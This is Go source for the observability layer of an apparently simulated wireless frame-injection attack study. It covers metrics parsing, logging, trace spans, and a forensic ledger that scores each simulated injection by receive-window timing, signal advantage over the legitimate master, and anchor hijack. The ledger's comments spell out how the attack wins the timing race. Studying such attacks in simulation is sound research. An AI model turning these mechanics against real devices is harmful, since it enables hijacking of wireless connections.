		for _, suffix := range []string{"_bucket", "_sum", "_count"} {
			if sampleName == current.Name+suffix {
				return current
			}
		}
	}
	return nil
}

// parsePromSample parses one `name{labels} value` line.
func parsePromSample(line string) (PromSample, error) {
	var s PromSample
	rest := line
	end := strings.IndexAny(rest, "{ ")
	if end < 0 {
		return s, fmt.Errorf("malformed sample line %q", line)
	}
	s.Name = rest[:end]
	if !validMetricName(s.Name) {
		return s, fmt.Errorf("invalid metric name %q", s.Name)
	}
	rest = rest[end:]
	if rest[0] == '{' {
		labels, used, err := parseExpositionLabels(rest[1:])
		if err != nil {
			return s, fmt.Errorf("sample %q: %w", s.Name, err)
		}
		s.Labels = labels
		rest = rest[1+used:]
	}
	if len(rest) == 0 || rest[0] != ' ' {
		return s, fmt.Errorf("sample %q: missing value separator", s.Name)
	}
	valText := strings.TrimSpace(rest[1:])
	if valText == "" || strings.ContainsAny(valText, " \t") {
		// A second field would be a timestamp; our exporters never emit
		// one, so the strict parser treats it as garbage.
		return s, fmt.Errorf("sample %q: malformed value %q", s.Name, valText)
	}
	v, err := parsePromValue(valText)
	if err != nil {
		return s, fmt.Errorf("sample %q: %w", s.Name, err)
	}
	s.Value = v
	return s, nil
}

// parseExpositionLabels parses `k="v",...}` (after the opening brace),
// returning the labels and bytes consumed including the closing brace.
func parseExpositionLabels(s string) ([]promLabel, int, error) {
	var labels []promLabel
	names := map[string]bool{}
	pos := 0
	for {
		if pos >= len(s) {
			return nil, 0, fmt.Errorf("unterminated label set")
		}
		if s[pos] == '}' {
			return labels, pos + 1, nil
		}
		eq := strings.Index(s[pos:], `="`)
		if eq <= 0 {
			return nil, 0, fmt.Errorf("malformed label at %q", s[pos:])
		}
		name := s[pos : pos+eq]
		if !validLabelName(name) {
			return nil, 0, fmt.Errorf("invalid label name %q", name)
		}
		if names[name] {
			return nil, 0, fmt.Errorf("duplicate label name %q", name)
		}
		names[name] = true
		val, used, ok := unescapeLabelValue(s[pos+eq+2:])
		if !ok {
			return nil, 0, fmt.Errorf("bad escape in value of label %q", name)
		}
		labels = append(labels, promLabel{name, val})
		pos += eq + 2 + used
		if pos < len(s) && s[pos] == ',' {
			pos++
		}
	}
}

// parsePromValue parses an exposition float.
func parsePromValue(s string) (float64, error) {
	switch s {
	case "+Inf", "Inf":
		return math.Inf(1), nil
	case "-Inf":
		return math.Inf(-1), nil
	case "NaN":
		return math.NaN(), nil
	}
	v, err := strconv.ParseFloat(s, 64)
	if err != nil {
		return 0, fmt.Errorf("unparsable value %q", s)
	}
	return v, nil
}

// validMetricName reports whether s is a legal Prometheus metric name.
func validMetricName(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		alpha := r == '_' || r == ':' || (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z')
		if !alpha && !(i > 0 && r >= '0' && r <= '9') {
			return false
		}
	}
	return true
}

// seriesKey is a sample's identity: name plus sorted label pairs.
func seriesKey(s PromSample) string {
	labels := append([]promLabel{}, s.Labels...)
	sort.Slice(labels, func(i, j int) bool { return labels[i].Name < labels[j].Name })
	var b strings.Builder
	b.WriteString(s.Name)
	for _, l := range labels {
		fmt.Fprintf(&b, "|%s=%q", l.Name, l.Value)
	}
	return b.String()
}

// validateHistogramFamily enforces the histogram invariants: cumulative
// non-decreasing buckets grouped by their non-le labels, a le="+Inf"
// bucket per group, _count matching it, and a _sum present.
func validateHistogramFamily(fam *PromFamily) error {
	type group struct {
		buckets  []PromSample
		sum      *PromSample
		count    *PromSample
		hasInf   bool
		infValue float64
	}
	groups := map[string]*group{}
	groupOf := func(s PromSample) *group {
		var nonLE []promLabel
		for _, l := range s.Labels {
			if l.Name != "le" {
				nonLE = append(nonLE, l)
			}
		}
		key := seriesKey(PromSample{Name: fam.Name, Labels: nonLE})
		g, ok := groups[key]
		if !ok {
			g = &group{}
			groups[key] = g
		}
		return g
	}

	for i := range fam.Samples {
		s := fam.Samples[i]
		g := groupOf(s)
		switch s.Name {
		case fam.Name + "_bucket":
			le := s.Label("le")
			if le == "" {
				return fmt.Errorf("histogram %s: bucket without le label", fam.Name)
			}
			bound, err := parsePromValue(le)
			if err != nil {
				return fmt.Errorf("histogram %s: bad le %q", fam.Name, le)
			}
			if math.IsInf(bound, 1) {
				g.hasInf, g.infValue = true, s.Value
			}
			g.buckets = append(g.buckets, s)
		case fam.Name + "_sum":
			g.sum = &fam.Samples[i]
		case fam.Name + "_count":
			g.count = &fam.Samples[i]
		default:
			return fmt.Errorf("histogram %s: unexpected series %s", fam.Name, s.Name)
		}
	}

	for key, g := range groups {
		if len(g.buckets) == 0 {
			return fmt.Errorf("histogram %s (%s): no buckets", fam.Name, key)
		}
		if !g.hasInf {
			return fmt.Errorf("histogram %s (%s): missing le=\"+Inf\" bucket", fam.Name, key)
		}
		sorted := append([]PromSample{}, g.buckets...)
		sort.Slice(sorted, func(i, j int) bool {
			bi, _ := parsePromValue(sorted[i].Label("le"))
			bj, _ := parsePromValue(sorted[j].Label("le"))
			return bi < bj
		})
		prev := math.Inf(-1)
		for _, b := range sorted {
			if b.Value < prev {
				return fmt.Errorf("histogram %s (%s): non-cumulative bucket le=%q (%v < %v)",
					fam.Name, key, b.Label("le"), b.Value, prev)
			}
			prev = b.Value
		}
		if g.count == nil {
			return fmt.Errorf("histogram %s (%s): missing _count", fam.Name, key)
		}
		if g.sum == nil {
			return fmt.Errorf("histogram %s (%s): missing _sum", fam.Name, key)
		}
		if g.count.Value != g.infValue {
			return fmt.Errorf("histogram %s (%s): _count %v != le=\"+Inf\" bucket %v",
				fam.Name, key, g.count.Value, g.infValue)
		}
	}
	return nil
}
