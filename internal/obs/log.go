package obs

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"strings"
)

// This file is the shared structured-logging surface: every daemon and
// CLI builds its logger here so the fleet emits one line format
// (leveled key=value text) and one flag vocabulary (-log-level) across
// serve, fabric and the injectabled subcommands. Libraries accept a
// *slog.Logger in their Config and treat nil as "silent" via LoggerOr,
// keeping the historical quiet default.

// ParseLogLevel maps the -log-level flag vocabulary onto slog levels.
func ParseLogLevel(s string) (slog.Level, error) {
	switch strings.ToLower(strings.TrimSpace(s)) {
	case "debug":
		return slog.LevelDebug, nil
	case "", "info":
		return slog.LevelInfo, nil
	case "warn", "warning":
		return slog.LevelWarn, nil
	case "error":
		return slog.LevelError, nil
	}
	return 0, fmt.Errorf("obs: unknown log level %q (want debug|info|warn|error)", s)
}

// NewLogger returns the fleet's standard leveled text logger writing
// to w.
func NewLogger(w io.Writer, level slog.Level) *slog.Logger {
	return slog.New(slog.NewTextHandler(w, &slog.HandlerOptions{Level: level}))
}

// nopHandler drops every record without formatting it.
type nopHandler struct{}

func (nopHandler) Enabled(context.Context, slog.Level) bool  { return false }
func (nopHandler) Handle(context.Context, slog.Record) error { return nil }
func (nopHandler) WithAttrs([]slog.Attr) slog.Handler        { return nopHandler{} }
func (nopHandler) WithGroup(string) slog.Handler             { return nopHandler{} }

// NopLogger returns a logger that discards everything at zero cost
// (Enabled is false for every level, so arguments are never evaluated).
func NopLogger() *slog.Logger { return slog.New(nopHandler{}) }

// LoggerOr returns l, or a silent logger when l is nil, so library code
// can log unconditionally against an optional Config logger.
func LoggerOr(l *slog.Logger) *slog.Logger {
	if l == nil {
		return NopLogger()
	}
	return l
}
