package obs

import (
	"fmt"
	"io"

	"injectable/internal/sim"
)

// InjectionRecord is the forensic account of one injection attempt,
// assembled by correlating events from the injectable (attempt
// lifecycle), medium (transmissions, locks, collisions) and link
// (receive windows, anchors) layers. All times are absolute simulation
// microseconds; durations and margins are microseconds.
type InjectionRecord struct {
	Attempt int    `json:"attempt"`
	Event   uint16 `json:"event"`
	Channel uint8  `json:"channel"`

	TxStartUS     float64 `json:"tx_start_us"`
	TxEndUS       float64 `json:"tx_end_us"`
	LeadUS        float64 `json:"lead_us"`         // estimated gap to the master's anchor
	WideningEstUS float64 `json:"widening_est_us"` // attacker's eq. 4 estimate

	// Receive-window correlation (from the victim slave's link layer).
	WindowSeen     bool    `json:"window_seen"`
	WindowDevice   string  `json:"window_device,omitempty"`
	WindowOpenUS   float64 `json:"window_open_us"`
	WindowWidthUS  float64 `json:"window_width_us"`
	TimingMarginUS float64 `json:"timing_margin_us"` // tx start − window open

	// Capture (from the medium layer).
	Captured     bool    `json:"captured"` // a victim radio locked our preamble
	CapturedBy   string  `json:"captured_by,omitempty"`
	LockFailed   bool    `json:"lock_failed"`
	Delivered    bool    `json:"delivered"`
	Collided     bool    `json:"collided"`
	MinSIRdB     float64 `json:"min_sir_db"` // worst SIR during any collision
	CRCState     string  `json:"crc_state"`  // ok | corrupted | not-captured | not-delivered
	AttackerRSSI float64 `json:"attacker_rssi_dbm"`

	// The legitimate master's competing frame, if observed in the race.
	MasterSeen   bool    `json:"master_seen"`
	MasterSource string  `json:"master_source,omitempty"`
	MasterTxUS   float64 `json:"master_tx_us"`
	MasterRSSI   float64 `json:"master_rssi_dbm"`
	SINRdB       float64 `json:"sinr_db"` // attacker − master at the victim

	// Outcome (from the injector's success heuristic, eq. 7).
	AnchorAdopted  bool   `json:"anchor_adopted"` // the slave re-anchored on our frame
	SlaveResponded bool   `json:"slave_responded"`
	ResponseValid  bool   `json:"response_valid"` // response CRC-valid and parseable
	Outcome        string `json:"outcome"`
	MissReason     string `json:"miss_reason,omitempty"`
}

// CRC states of the injected frame as seen by the victim.
const (
	CRCStateOK           = "ok"            // delivered intact
	CRCStateCorrupted    = "corrupted"     // delivered but collision-mangled
	CRCStateNotCaptured  = "not-captured"  // no victim radio locked the preamble
	CRCStateNotDelivered = "not-delivered" // locked but reception aborted
)

// windowInfo is the latest receive window opened by one device.
type windowInfo struct {
	Device  string
	Event   uint16
	Channel uint8
	OpenAt  sim.Time
	Width   sim.Duration
}

// lockInfo is one radio's capture of the injected frame.
type lockInfo struct {
	Device    string
	RSSI      float64
	Delivered bool
	Collided  bool
	MinSIR    float64
	Corrupted bool
}

// openAttempt accumulates correlation state for the in-flight attempt.
type openAttempt struct {
	rec         InjectionRecord
	txStart     sim.Time
	txEnd       sim.Time
	injSource   string
	locks       []lockInfo
	lockFailed  bool
	masterSeen  bool
	masterSrc   string
	masterStart sim.Time
	adopted     bool
	adoptedBy   string
}

// AttemptStart begins a ledger entry: the injector's view of the race
// at fire time.
type AttemptStart struct {
	Attempt     int
	Event       uint16
	Channel     uint8
	TxStart     sim.Time
	TxEnd       sim.Time
	Lead        sim.Duration // estimated gap from tx start to master anchor
	WideningEst sim.Duration // attacker's widening estimate (eq. 4)
}

// AttemptEnd closes a ledger entry: the injector's verdict.
type AttemptEnd struct {
	Outcome        string
	SlaveResponded bool
	ResponseValid  bool
}

// Ledger correlates per-attempt events from the phy/medium/link/
// injectable layers into InjectionRecords. It is driven entirely from
// simulation callbacks (single goroutine); a nil *Ledger is a no-op on
// every method.
type Ledger struct {
	records []InjectionRecord
	open    *openAttempt
	windows []windowInfo // latest window per device, insertion order
	// probe estimates received power from one named radio at another —
	// installed by the medium so the ledger can compute the master's
	// RSSI at the victim even when the victim never locked that frame.
	probe func(from, to string, ch uint8) (float64, bool)
}

// NewLedger returns an empty ledger.
func NewLedger() *Ledger { return &Ledger{} }

// SetRSSIProbe installs the medium's path-loss probe.
func (l *Ledger) SetRSSIProbe(f func(from, to string, ch uint8) (float64, bool)) {
	if l == nil {
		return
	}
	l.probe = f
}

// BeginAttempt opens the ledger entry for an injection attempt. It must
// be called before the forged frame's transmission starts.
func (l *Ledger) BeginAttempt(s AttemptStart) {
	if l == nil {
		return
	}
	l.open = &openAttempt{
		rec: InjectionRecord{
			Attempt:       s.Attempt,
			Event:         s.Event,
			Channel:       s.Channel,
			TxStartUS:     us(s.TxStart),
			TxEndUS:       us(s.TxEnd),
			LeadUS:        dus(s.Lead),
			WideningEstUS: dus(s.WideningEst),
		},
		txStart: s.TxStart,
		txEnd:   s.TxEnd,
	}
}

// MediumTx reports a transmission starting on the medium. The ledger
// identifies the injected frame itself (same start and channel as the
// open attempt) and the legitimate master's competing frame (any other
// frame starting in the race interval, up to the injected frame's end).
func (l *Ledger) MediumTx(source string, ch uint8, start, end sim.Time, noise bool) {
	if l == nil || l.open == nil || noise {
		return
	}
	a := l.open
	if ch != a.rec.Channel {
		return
	}
	if start == a.txStart && a.injSource == "" {
		a.injSource = source
		return
	}
	if source != a.injSource && start <= a.txEnd {
		if !a.masterSeen || start < a.masterStart {
			a.masterSeen = true
			a.masterSrc = source
			a.masterStart = start
		}
	}
}

// MediumLock reports a radio locking onto a frame; the ledger keeps
// locks of the injected frame (matched by source and start time).
func (l *Ledger) MediumLock(rx, source string, start sim.Time, rssi float64) {
	if l == nil || l.open == nil {
		return
	}
	a := l.open
	if source != a.injSource || start != a.txStart {
		return
	}
	a.locks = append(a.locks, lockInfo{Device: rx, RSSI: rssi})
}

// MediumLockFail reports a failed preamble lock on the injected frame.
func (l *Ledger) MediumLockFail(rx, source string, start sim.Time, reason string) {
	if l == nil || l.open == nil {
		return
	}
	a := l.open
	if source != a.injSource || start != a.txStart {
		return
	}
	a.lockFailed = true
}

// MediumDeliver reports completed reception of the injected frame at a
// locked radio, with its collision outcome.
func (l *Ledger) MediumDeliver(rx, source string, start sim.Time, rssi float64, collided bool, minSIR float64, corrupted bool) {
	if l == nil || l.open == nil {
		return
	}
	a := l.open
	if source != a.injSource || start != a.txStart {
		return
	}
	for i := range a.locks {
		if a.locks[i].Device == rx {
			a.locks[i].Delivered = true
			a.locks[i].RSSI = rssi
			a.locks[i].Collided = collided
			a.locks[i].MinSIR = minSIR
			a.locks[i].Corrupted = corrupted
			return
		}
	}
	a.locks = append(a.locks, lockInfo{
		Device: rx, RSSI: rssi, Delivered: true,
		Collided: collided, MinSIR: minSIR, Corrupted: corrupted,
	})
}

// LinkWindowOpen reports a slave opening its widened receive window.
// Windows are buffered per device because they open before the
// injector fires into them.
func (l *Ledger) LinkWindowOpen(device string, event uint16, ch uint8, openAt sim.Time, width sim.Duration) {
	if l == nil {
		return
	}
	for i := range l.windows {
		if l.windows[i].Device == device {
			l.windows[i] = windowInfo{Device: device, Event: event, Channel: ch, OpenAt: openAt, Width: width}
			return
		}
	}
	l.windows = append(l.windows, windowInfo{Device: device, Event: event, Channel: ch, OpenAt: openAt, Width: width})
}

// LinkAnchor reports a slave adopting an anchor point. An anchor equal
// to the open attempt's transmission start means the victim re-anchored
// on the injected frame — the heart of the attack.
func (l *Ledger) LinkAnchor(device string, event uint16, anchor sim.Time) {
	if l == nil || l.open == nil {
		return
	}
	a := l.open
	if anchor == a.txStart {
		a.adopted = true
		a.adoptedBy = device
	}
}

// EndAttempt finalises the open entry with the injector's verdict and
// appends the completed record. It returns the record (nil if no
// attempt was open).
func (l *Ledger) EndAttempt(end AttemptEnd) *InjectionRecord {
	if l == nil || l.open == nil {
		return nil
	}
	a := l.open
	l.open = nil
	rec := a.rec
	rec.Outcome = end.Outcome
	rec.SlaveResponded = end.SlaveResponded
	rec.ResponseValid = end.ResponseValid
	rec.AnchorAdopted = a.adopted
	rec.LockFailed = a.lockFailed

	// Window correlation: the victim's window for this attempt is the
	// one matching the attempt's event counter and channel.
	var win *windowInfo
	for i := range l.windows {
		w := &l.windows[i]
		if w.Event == rec.Event && w.Channel == rec.Channel {
			win = w
			break
		}
	}
	if win != nil {
		rec.WindowSeen = true
		rec.WindowDevice = win.Device
		rec.WindowOpenUS = us(win.OpenAt)
		rec.WindowWidthUS = dus(win.Width)
		rec.TimingMarginUS = dus(a.txStart.Sub(win.OpenAt))
	}

	// Capture correlation: prefer the lock at the window device (the
	// victim slave) over bystanders such as a promiscuous IDS probe.
	var lock *lockInfo
	for i := range a.locks {
		if win != nil && a.locks[i].Device == win.Device {
			lock = &a.locks[i]
			break
		}
	}
	if lock == nil && len(a.locks) > 0 {
		lock = &a.locks[0]
	}
	victim := rec.WindowDevice
	switch {
	case lock != nil:
		rec.Captured = true
		rec.CapturedBy = lock.Device
		rec.AttackerRSSI = lock.RSSI
		rec.Delivered = lock.Delivered
		rec.Collided = lock.Collided
		rec.MinSIRdB = lock.MinSIR
		if victim == "" {
			victim = lock.Device
		}
		switch {
		case !lock.Delivered:
			rec.CRCState = CRCStateNotDelivered
		case lock.Corrupted:
			rec.CRCState = CRCStateCorrupted
		default:
			rec.CRCState = CRCStateOK
		}
	default:
		rec.CRCState = CRCStateNotCaptured
		if victim != "" && a.injSource != "" && l.probe != nil {
			if rssi, ok := l.probe(a.injSource, victim, rec.Channel); ok {
				rec.AttackerRSSI = rssi
			}
		}
	}

	// SINR: the injected frame's power advantage over the legitimate
	// master's competing frame, both referenced at the victim.
	if a.masterSeen {
		rec.MasterSeen = true
		rec.MasterSource = a.masterSrc
		rec.MasterTxUS = us(a.masterStart)
		if victim != "" && l.probe != nil {
			if rssi, ok := l.probe(a.masterSrc, victim, rec.Channel); ok {
				rec.MasterRSSI = rssi
				rec.SINRdB = rec.AttackerRSSI - rssi
			}
		}
	}

	rec.MissReason = missReason(rec)
	l.records = append(l.records, rec)
	return &l.records[len(l.records)-1]
}

// Abort closes a dangling open attempt (e.g. the followed connection
// died mid-race) with the given outcome.
func (l *Ledger) Abort(outcome string) {
	if l == nil || l.open == nil {
		return
	}
	l.EndAttempt(AttemptEnd{Outcome: outcome})
}

// missReason explains a non-success outcome from the correlated layers.
func missReason(rec InjectionRecord) string {
	switch rec.Outcome {
	case "success", "":
		return ""
	case "timing-mismatch":
		// A slave response was heard but not aligned to our frame: the
		// master won the anchor race.
		return "master-won-race"
	case "seq-mismatch":
		if rec.CRCState == CRCStateCorrupted {
			return "collision-corrupted"
		}
		return "sequence-desync"
	case "no-response":
		switch {
		case !rec.WindowSeen:
			return "no-window-observed"
		case rec.TimingMarginUS < 0:
			return "fired-before-window-open"
		case rec.TimingMarginUS > rec.WindowWidthUS:
			return "fired-after-window-close"
		case rec.LockFailed:
			return "preamble-collision"
		case rec.CRCState == CRCStateCorrupted:
			return "collision-corrupted"
		case !rec.Captured:
			return "not-captured"
		case rec.Delivered:
			return "response-missed"
		default:
			return "slave-silent"
		}
	default:
		return rec.Outcome
	}
}

// Records returns the completed records in attempt order.
func (l *Ledger) Records() []InjectionRecord {
	if l == nil {
		return nil
	}
	return l.records
}

// WriteSummary renders a human-readable forensics report.
func (l *Ledger) WriteSummary(w io.Writer) error {
	recs := l.Records()
	if _, err := fmt.Fprintf(w, "injection forensics: %d attempts\n", len(recs)); err != nil {
		return err
	}
	hits := 0
	reasons := map[string]int{}
	for _, r := range recs {
		status := r.Outcome
		if r.MissReason != "" {
			status += " (" + r.MissReason + ")"
			reasons[r.MissReason]++
		} else if r.Outcome == "success" {
			hits++
		}
		sinr := "n/a"
		if r.MasterSeen {
			sinr = fmt.Sprintf("%+.1f dB", r.SINRdB)
		}
		_, err := fmt.Fprintf(w,
			"  #%-3d event=%-5d ch=%-2d margin=%+8.1fµs window=%7.1fµs sinr=%-9s crc=%-13s anchor=%-5t %s\n",
			r.Attempt, r.Event, r.Channel, r.TimingMarginUS, r.WindowWidthUS,
			sinr, r.CRCState, r.AnchorAdopted, status)
		if err != nil {
			return err
		}
	}
	if _, err := fmt.Fprintf(w, "  hits=%d misses=%d\n", hits, len(recs)-hits); err != nil {
		return err
	}
	for _, reason := range sortedKeys(reasons) {
		if _, err := fmt.Fprintf(w, "    miss[%s]=%d\n", reason, reasons[reason]); err != nil {
			return err
		}
	}
	return nil
}

// us converts an absolute simulation time to float microseconds.
func us(t sim.Time) float64 { return float64(t) / float64(sim.Microsecond) }

// dus converts a duration to float microseconds.
func dus(d sim.Duration) float64 { return float64(d) / float64(sim.Microsecond) }
