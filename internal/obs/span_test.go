package obs

import (
	"bytes"
	"encoding/json"
	"testing"
	"time"
)

// TestSpanLogBoundDropsOldest: the log keeps the newest spans when the
// bound is exceeded and accounts for every eviction.
func TestSpanLogBoundDropsOldest(t *testing.T) {
	l := NewSpanLog(3)
	for i := 0; i < 5; i++ {
		l.Add(Span{Name: "s", StartUS: int64(i)})
	}
	got := l.Snapshot()
	if len(got) != 3 {
		t.Fatalf("kept %d spans, want 3", len(got))
	}
	if got[0].StartUS != 2 || got[2].StartUS != 4 {
		t.Errorf("wrong window kept: %+v", got)
	}
	if l.Dropped() != 2 {
		t.Errorf("dropped = %d, want 2", l.Dropped())
	}
}

// TestSpanLogNilSafe: nil receivers are inert like the rest of obs.
func TestSpanLogNilSafe(t *testing.T) {
	var l *SpanLog
	l.Add(Span{Name: "x"})
	if l.Snapshot() != nil || l.Dropped() != 0 {
		t.Error("nil SpanLog is not inert")
	}
	var h *Hub
	h.Spans().Add(Span{Name: "x"})
}

// TestNewSpanArgs: NewSpan pairs up the variadic args and never yields
// a negative duration.
func TestNewSpanArgs(t *testing.T) {
	s := NewSpan("t1", "run", time.Now().Add(time.Second), "shard", "3", "worker", "w0")
	if s.DurUS != 0 {
		t.Errorf("future start produced negative duration %d", s.DurUS)
	}
	if s.Args["shard"] != "3" || s.Args["worker"] != "w0" {
		t.Errorf("args not paired: %v", s.Args)
	}
	if m := Mark("t1", "redispatch"); m.DurUS != 0 {
		t.Errorf("mark has duration %d", m.DurUS)
	}
}

// TestWriteFleetTrace renders spans from three processes and checks the
// Chrome trace has one pid lane per process, per-shard threads, and the
// trace id surfaced in args.
func TestWriteFleetTrace(t *testing.T) {
	procs := []ProcessSpans{
		{Process: "coordinator", Spans: []Span{
			NewSpan("abc", "merge", time.Now(), "shard", "0"),
			Mark("abc", "redispatch", "shard", "1"),
		}},
		{Process: "http://w1", Spans: []Span{{Trace: "abc", Name: "run", StartUS: 10, DurUS: 5, Args: map[string]string{"shard": "0"}}}},
		{Process: "http://w2", Spans: []Span{{Trace: "abc", Name: "run", StartUS: 12, DurUS: 4}}},
	}
	var buf bytes.Buffer
	if err := WriteFleetTrace(&buf, procs); err != nil {
		t.Fatal(err)
	}
	var out struct {
		TraceEvents []struct {
			Name string            `json:"name"`
			Ph   string            `json:"ph"`
			PID  int               `json:"pid"`
			Args map[string]string `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	pids := map[int]string{}
	var lanes []string
	for _, e := range out.TraceEvents {
		if e.Name == "process_name" && e.Ph == "M" {
			pids[e.PID] = e.Args["name"]
		}
		if e.Name == "thread_name" && e.Ph == "M" {
			lanes = append(lanes, e.Args["name"])
		}
	}
	if len(pids) != 3 {
		t.Fatalf("want 3 process lanes, got %v", pids)
	}
	for pid, name := range map[int]string{1: "coordinator", 2: "http://w1", 3: "http://w2"} {
		if pids[pid] != name {
			t.Errorf("pid %d named %q, want %q", pid, pids[pid], name)
		}
	}
	wantLane := false
	for _, l := range lanes {
		if l == "shard 0" {
			wantLane = true
		}
	}
	if !wantLane {
		t.Errorf("no per-shard lane in %v", lanes)
	}
	for _, e := range out.TraceEvents {
		if e.Ph == "X" && e.Args["trace"] != "abc" {
			t.Errorf("span %q lost its trace id: %v", e.Name, e.Args)
		}
	}
}

// TestFilterTrace keeps only the requested trace's spans.
func TestFilterTrace(t *testing.T) {
	spans := []Span{{Trace: "a", Name: "x"}, {Trace: "b", Name: "y"}, {Trace: "a", Name: "z"}}
	got := FilterTrace(spans, "a")
	if len(got) != 2 || got[0].Name != "x" || got[1].Name != "z" {
		t.Errorf("filter: %+v", got)
	}
}
