package obs

import (
	"encoding/json"
	"io"
)

// metricLine is one JSONL record of the metrics export. Exactly one of
// the payload groups is populated, discriminated by Kind. The export
// carries no wall-clock or host-dependent fields, so it is byte-
// identical across runs at the same seed.
type metricLine struct {
	Kind string `json:"kind"`

	Name  string   `json:"name,omitempty"`
	Value *int64   `json:"value,omitempty"`
	FVal  *float64 `json:"fvalue,omitempty"`

	Bounds []float64 `json:"bounds,omitempty"`
	Counts []int64   `json:"counts,omitempty"`
	Count  int64     `json:"count,omitempty"`
	Sum    float64   `json:"sum,omitempty"`
	Min    float64   `json:"min,omitempty"`
	Max    float64   `json:"max,omitempty"`
	P50    float64   `json:"p50,omitempty"`
	P90    float64   `json:"p90,omitempty"`
	P99    float64   `json:"p99,omitempty"`

	Record *InjectionRecord `json:"record,omitempty"`
}

// WriteMetricsJSONL writes a registry snapshot and (optionally) the
// forensics ledger as JSON lines: counters, gauges and histograms in
// name order, then one "injection" line per ledger record in attempt
// order. Output is deterministic for deterministic inputs.
func WriteMetricsJSONL(w io.Writer, snap *Snapshot, ledger *Ledger) error {
	enc := json.NewEncoder(w)
	if snap != nil {
		for _, c := range snap.Counters {
			v := c.Value
			if err := enc.Encode(metricLine{Kind: "counter", Name: c.Name, Value: &v}); err != nil {
				return err
			}
		}
		for _, g := range snap.Gauges {
			v := g.Value
			if err := enc.Encode(metricLine{Kind: "gauge", Name: g.Name, FVal: &v}); err != nil {
				return err
			}
		}
		for _, h := range snap.Histograms {
			line := metricLine{
				Kind: "histogram", Name: h.Name,
				Bounds: h.Bounds, Counts: h.Counts,
				Count: h.Count, Sum: h.Sum, Min: h.Min, Max: h.Max,
				P50: h.Quantile(0.50), P90: h.Quantile(0.90), P99: h.Quantile(0.99),
			}
			if err := enc.Encode(line); err != nil {
				return err
			}
		}
	}
	for i := range ledger.Records() {
		rec := ledger.Records()[i]
		if err := enc.Encode(metricLine{Kind: "injection", Record: &rec}); err != nil {
			return err
		}
	}
	return nil
}
