package obs

import "math"

// Snapshot is a point-in-time, deterministic view of a Registry. All
// slices are sorted by name so encoding a snapshot is byte-stable.
type Snapshot struct {
	Counters   []CounterSnapshot   `json:"counters,omitempty"`
	Gauges     []GaugeSnapshot     `json:"gauges,omitempty"`
	Histograms []HistogramSnapshot `json:"histograms,omitempty"`
}

// CounterSnapshot is one counter's value.
type CounterSnapshot struct {
	Name  string `json:"name"`
	Value int64  `json:"value"`
}

// GaugeSnapshot is one gauge's last value.
type GaugeSnapshot struct {
	Name  string  `json:"name"`
	Value float64 `json:"value"`
}

// HistogramSnapshot is one histogram's buckets plus exact aggregates.
type HistogramSnapshot struct {
	Name   string    `json:"name"`
	Bounds []float64 `json:"bounds"`
	Counts []int64   `json:"counts"` // len(Bounds)+1, last is overflow
	Count  int64     `json:"count"`
	Sum    float64   `json:"sum"`
	Min    float64   `json:"min,omitempty"`
	Max    float64   `json:"max,omitempty"`
}

// Mean returns the exact sample mean (0 when empty).
func (h HistogramSnapshot) Mean() float64 {
	if h.Count == 0 {
		return 0
	}
	return h.Sum / float64(h.Count)
}

// Quantile estimates the q-th quantile using the same rank convention
// as experiments.Stats (rank q*(n-1)), interpolating linearly inside
// the bucket holding that rank and clamping bucket edges to the
// observed min/max. The estimate is therefore exact for n <= 1 and
// within one bucket width otherwise.
func (h HistogramSnapshot) Quantile(q float64) float64 {
	if h.Count == 0 {
		return 0
	}
	if q <= 0 {
		return h.Min
	}
	if q >= 1 {
		return h.Max
	}
	target := q * float64(h.Count-1)
	cum := int64(0)
	for i, c := range h.Counts {
		if c == 0 {
			continue
		}
		if target <= float64(cum+c-1) {
			lo, hi := h.bucketEdges(i)
			if c == 1 || hi <= lo {
				return hi
			}
			frac := (target - float64(cum)) / float64(c-1)
			return lo + frac*(hi-lo)
		}
		cum += c
	}
	return h.Max
}

// bucketEdges returns bucket i's range clamped to the observed values.
func (h HistogramSnapshot) bucketEdges(i int) (lo, hi float64) {
	lo = math.Inf(-1)
	if i > 0 {
		lo = h.Bounds[i-1]
	}
	hi = math.Inf(1)
	if i < len(h.Bounds) {
		hi = h.Bounds[i]
	}
	lo = math.Max(lo, h.Min)
	hi = math.Min(hi, h.Max)
	return lo, hi
}

// Merge folds other into s: counters and histogram buckets sum by
// name, gauges take other's value (last writer wins), and instruments
// unique to either side are kept. Histograms with mismatched bounds
// keep s's buckets but still merge the exact aggregates. The result
// stays name-sorted, so merging per-trial snapshots in trial order is
// deterministic regardless of how many workers produced them.
func (s *Snapshot) Merge(other *Snapshot) {
	if s == nil || other == nil {
		return
	}
	s.Counters = mergeByName(s.Counters, other.Counters,
		func(c CounterSnapshot) string { return c.Name },
		func(a, b CounterSnapshot) CounterSnapshot { a.Value += b.Value; return a })
	s.Gauges = mergeByName(s.Gauges, other.Gauges,
		func(g GaugeSnapshot) string { return g.Name },
		func(a, b GaugeSnapshot) GaugeSnapshot { return b })
	s.Histograms = mergeByName(s.Histograms, other.Histograms,
		func(h HistogramSnapshot) string { return h.Name },
		MergeHistograms)
}

// MergeHistograms folds b into a copy of a: matching bucket bounds sum
// count-for-count, mismatched bounds keep a's buckets but still merge
// the exact aggregates (count, sum, min, max). The serving layer's
// columnar aggregation endpoint leans on this to fold per-point latency
// histograms into campaign totals.
func MergeHistograms(a, b HistogramSnapshot) HistogramSnapshot {
	if len(a.Bounds) == len(b.Bounds) {
		same := true
		for i := range a.Bounds {
			if a.Bounds[i] != b.Bounds[i] {
				same = false
				break
			}
		}
		if same {
			counts := make([]int64, len(a.Counts))
			copy(counts, a.Counts)
			for i := range b.Counts {
				counts[i] += b.Counts[i]
			}
			a.Counts = counts
		}
	}
	switch {
	case a.Count == 0:
		a.Min, a.Max = b.Min, b.Max
	case b.Count != 0:
		a.Min = math.Min(a.Min, b.Min)
		a.Max = math.Max(a.Max, b.Max)
	}
	a.Count += b.Count
	a.Sum += b.Sum
	return a
}

// mergeByName merges two name-sorted slices, combining entries that
// share a name and keeping the result sorted.
func mergeByName[T any](a, b []T, name func(T) string, combine func(a, b T) T) []T {
	out := make([]T, 0, len(a)+len(b))
	i, j := 0, 0
	for i < len(a) && j < len(b) {
		switch {
		case name(a[i]) < name(b[j]):
			out = append(out, a[i])
			i++
		case name(a[i]) > name(b[j]):
			out = append(out, b[j])
			j++
		default:
			out = append(out, combine(a[i], b[j]))
			i++
			j++
		}
	}
